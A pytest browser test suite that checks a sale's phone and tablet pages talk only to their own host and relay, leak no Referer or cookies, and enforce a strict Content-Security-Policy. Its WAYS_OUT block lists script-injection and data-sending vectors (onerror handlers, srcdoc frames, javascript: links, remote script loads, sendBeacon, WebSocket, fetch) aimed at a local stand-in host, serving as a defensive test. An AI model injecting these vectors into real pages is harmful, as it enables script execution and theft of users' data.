"""The pages talk to their own host and the relay and to nobody else, and nobody learns of them."""

import re

import pytest
import stage
from privacy.wire import Wire

pytestmark = pytest.mark.browser

PAGES = ["phone", "tablet"]
ID = re.compile(rb"[0-9a-f]{32}")

# Everything by which a page that somebody got a piece of script or markup into could call out.
WAYS_OUT = """
elsewhere => {
    const add = (name, values) => {
        const made = Object.assign(document.createElement(name), values);
        document.body.appendChild(made);
        return made;
    };
    add('script', {textContent: 'document.documentElement.id = "ran"'});
    add('script', {src: elsewhere + '/script.js'});
    add('img', {src: elsewhere + '/image.png'});
    add('img', {src: 'data:,', onerror: null}).setAttribute(
        'onerror', 'document.documentElement.id = "ran"');
    add('iframe', {src: elsewhere + '/frame.html'});
    add('iframe', {srcdoc: '<script>parent.document.documentElement.id = "ran"</script>'});
    add('object', {data: elsewhere + '/object.swf'});
    add('embed', {src: elsewhere + '/embed.swf'});
    add('video', {src: elsewhere + '/video.mp4'}).load();
    add('link', {rel: 'stylesheet', href: elsewhere + '/sheet.css'});
    add('link', {rel: 'preload', as: 'image', href: elsewhere + '/preload.png'});
    add('link', {rel: 'prefetch', href: elsewhere + '/prefetch.html'});
    add('link', {rel: 'manifest', href: elsewhere + '/manifest.json'});
    add('link', {rel: 'icon', href: elsewhere + '/icon.png'});
    add('style', {textContent: `body { background: url(${elsewhere}/style.png) }`});
    add('base', {href: elsewhere + '/'});
    add('form', {action: elsewhere + '/form', method: 'post'}).submit();
    add('a', {href: 'javascript:void(document.documentElement.id = "ran")'}).click();
    navigator.sendBeacon(elsewhere + '/beacon', 'secret');
    for (const make of [
        () => new Worker(elsewhere + '/worker.js'),
        () => new EventSource(elsewhere + '/events'),
        () => new WebSocket(elsewhere.replace('http', 'ws') + '/socket'),
        () => navigator.serviceWorker.register('/worker.js'),
    ]) try { Promise.resolve(make()).catch(() => 0); } catch (refused) { /* as it should be */ }
    // A refusal comes at once; half a second more is for a call that went another way.
    return fetch(elsewhere + '/fetch', {mode: 'no-cors'}).then(
        () => 'fetched', () => new Promise(done => setTimeout(done, 500, 'refused')));
}
"""


@pytest.fixture
def elsewhere():
    """Another host, as far as a browser is concerned."""
    with Wire() as wire:
        yield wire


def test_every_request_goes_to_the_page_host_or_the_relay(whole_sale):
    for name, party in (("phone", "phone"), ("tablet", "display")):
        screen, origin = getattr(whole_sale, name), whole_sale.wires[party].origin
        asked = [request.url for request in screen.requests]

        assert asked
        assert [url for url in asked if not url.startswith((f"{origin}/", "blob:", "data:"))] == []
        assert all(url.split(":", 1)[1].startswith(origin) for url in asked if url[:5] == "blob:")


def test_the_phone_asks_for_page_and_envelope_and_says_opened_when_open_and_when_tapped(whole_sale):
    asked = sorted(ID.sub(b"*", line) for line in whole_sale.wires["phone"].requests())

    assert asked == [b"GET /", b"GET /v1/t/*", b"POST /v1/t/*/state", b"POST /v1/t/*/state"]


def test_the_display_asks_for_its_page_and_says_hello(whole_sale):
    asked = {ID.sub(b"*", line) for line in whole_sale.wires["display"].requests()}

    assert asked == {b"GET /d", b"POST /v1/c/*/hello"}


def test_no_party_says_where_it_came_from_or_carries_a_cookie(whole_sale):
    for wire in whole_sale.wires.values():
        host = wire.origin.removeprefix("http://").encode()

        assert wire.headers("Referer") == []
        assert wire.headers("Cookie") == []
        assert set(wire.headers("Host")) == {host}
        assert b"Set-Cookie" not in wire.received


def test_the_till_does_not_say_what_it_runs_on(whole_sale):
    assert whole_sale.wires["till"].headers("User-Agent") == []


INLINE = """
name => Promise.all([...document.getElementsByTagName(name)].map(async element => {
    const bytes = new TextEncoder().encode(element.textContent);
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
    return `'sha256-${btoa(String.fromCharCode(...digest))}'`;
}))
"""


def own(page, name):
    """Give the hashes of what a page has of a kind, and the words for those who know no hashes.

    Chromium knows hashes, and ignores the last word; what it lets through is tried below.
    """
    return " ".join([*page.evaluate(INLINE, name), "'unsafe-inline'"])


@pytest.mark.parametrize("name", PAGES)
def test_the_policy_allows_nothing_but_its_own_script(whole_sale, name):
    page = getattr(whole_sale, name).page
    policy = page.evaluate(
        "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
    )
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))

    assert rules.pop("default-src") == "'none'"
    assert rules.pop("script-src") == own(page, "script")
    assert rules.pop("style-src") == own(page, "style")
    assert rules == {
        "connect-src": "'self' https:",  # a relay may be another host than the page's
        "img-src": "blob: data:",  # the preview
        "base-uri": "'none'",
        "form-action": "'none'",
    }


@pytest.mark.parametrize("name", PAGES)
def test_what_is_injected_neither_runs_nor_calls_out(whole_sale, elsewhere, name):
    page = getattr(whole_sale, name).page

    told = page.evaluate(WAYS_OUT, elsewhere.origin)

    assert told == "refused"
    assert page.evaluate("document.documentElement.id") == ""
    # Chromium connects for a frame and a form before it asks the policy; it says nothing there.
    assert [bytes(connection.sent) for connection in elsewhere.connections if connection.sent] == []


def test_without_the_policy_the_same_would_call_out(chromium, elsewhere):
    """The control: on a page without one, what is injected runs and is heard."""
    bare = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<p>Bare"
    with chromium.new_context() as context, Wire(answer=bare) as host:
        page = context.new_page()
        page.goto(host.origin)

        page.evaluate(WAYS_OUT, elsewhere.origin)

        assert page.evaluate("document.documentElement.id") == "ran"
        assert len(elsewhere.requests()) > 3


@pytest.mark.parametrize("name", PAGES)
def test_who_is_called_next_does_not_learn_from_where(whole_sale, elsewhere, name):
    page = getattr(whole_sale, name).page

    page.evaluate("url => { location.href = url; }", elsewhere.origin)
    stage.wait_for(elsewhere.requests, "the call")

    assert elsewhere.requests() == [b"GET /"]
    assert elsewhere.headers("Referer") == []
    assert b"#" not in elsewhere.sent
